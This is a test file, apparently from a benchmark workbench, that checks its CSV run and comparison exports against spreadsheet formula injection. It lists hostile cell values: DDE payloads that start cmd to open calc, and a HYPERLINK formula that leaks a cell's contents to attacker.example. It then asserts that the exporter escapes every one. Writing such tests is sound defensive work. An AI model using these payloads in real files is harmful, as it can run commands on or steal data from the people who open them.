import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { AnswerRecord } from '../../src-shared/experiment';
import { csvField } from '../../src-main/core/runs/export';
import { runQueries } from '../../src-main/core/runs/queries';
import { SqliteRunReader } from '../../src-main/core/runs/reader';
import { RunStore } from '../../src-main/core/runs/store';
import { fixtureManifest } from '../support/runs-fixture';

/**
 * Issue 23 item 3: text that reaches a CSV from a dataset, a model or a memory service must not
 * run as a formula when the file is opened in a spreadsheet (OWASP "CSV Injection").
 */

const dir = mkdtempSync(join(tmpdir(), 'workbench-csv-injection-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** Every start a spreadsheet reads as a formula, in the forms the walkthrough used. */
const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];

/** RFC 4180 reader: enough to see each cell exactly as a spreadsheet receives it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

function hostileAnswer(runId: string, q: number): AnswerRecord {
  const text = HOSTILE[q % HOSTILE.length] as string;
  return {
    sampleId: 's1',
    testIndex: 0,
    questionIndex: q,
    category: 4,
    question: text,
    gold: text,
    prediction: `${text} (${runId})`,
    retrieved: [{ id: text, diaId: null, score: 0.5 }],
    scores: { officialF1: q % 2 === 0 ? 1 : 0, evidenceRecall: null, setF1: 0.5, bleu1: 0.25 },
    retrieveMs: 1,
    answerMs: 1,
    error: text,
    judge: null,
    usage: null,
  };
}

function hostileRunsDb(): string {
  const file = join(dir, 'runs.db');
  const store = RunStore.open(file);
  for (const runId of ['run-a', 'run-b']) {
    store.createRun(fixtureManifest(runId, 'hybrid', ['s1']), [
      {
        sampleId: 's1',
        totalPackets: 1,
        totalQuestions: HOSTILE.length,
        threshold: 1,
        plannedTests: 1,
      },
    ]);
    const answers = HOSTILE.map((_, q) => hostileAnswer(runId, q));
    store.commitTest(runId, {
      sampleId: 's1',
      testIndex: 0,
      packetIdx: 0,
      dialogsInserted: 2,
      visibleCount: HOSTILE.length,
      questionIndices: answers.map((a) => a.questionIndex),
      answers,
    });
    store.markSample(runId, 's1', { status: 'completed' });
    store.finishRun(runId, 'completed');
  }
  store.close();
  return file;
}

/** A cell a spreadsheet would evaluate: text starting =, +, -, @, tab or CR that is not a number. */
const isFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell) && !isNumeric(cell);
const isNumeric = (cell: string): boolean => cell !== '' && Number.isFinite(Number(cell));

describe('CSV formula injection (issue 23 item 3)', () => {
  const file = hostileRunsDb();
  const reader = SqliteRunReader.openReadOnly(file);
  afterAll(() => reader.close());
  const queries = runQueries(reader);
  const exports = {
    'run export': queries['runs.export']({ runId: 'run-a', format: 'csv' }).content,
    'compare export': queries['runs.compareExport']({
      runIds: ['run-a', 'run-b'],
      baselineRunId: 'run-a',
      metric: 'officialF1',
      format: 'csv',
    }).content,
  };

  for (const [name, csv] of Object.entries(exports)) {
    it(`${name}: no text cell starts a formula; each hostile text comes back behind a '`, () => {
      const rows = parseCsv(csv);
      expect(rows.length).toBe(HOSTILE.length + 1);
      const cells = rows.flat();
      expect(cells.filter(isFormula)).toEqual([]);
      for (const text of HOSTILE) expect(cells).toContain(`'${text}`);
    });

    it(`${name}: numeric columns stay numbers`, () => {
      const [header, ...rows] = parseCsv(csv) as [string[], ...string[][]];
      const numeric = header
        .map((h, i) => [h, i] as const)
        .filter(([h]) => /^(questionIndex|category|officialF1(\[.*\])?)$/.test(h));
      expect(numeric.length).toBeGreaterThan(0);
      for (const row of rows) {
        for (const [, i] of numeric) expect(isNumeric(row[i] as string)).toBe(true);
      }
    });
  }

  it('csvField decides by type: a negative number is data, the same characters as text are not', () => {
    expect(csvField(-0.5)).toBe('-0.5');
    expect(csvField('-0.5')).toBe(`"'-0.5"`);
    expect(csvField('=1+1')).toBe(`"'=1+1"`);
    expect(csvField('a, "b"')).toBe('"a, ""b"""');
    expect(csvField('plain')).toBe('plain');
    expect(csvField(null)).toBe('');
  });
});
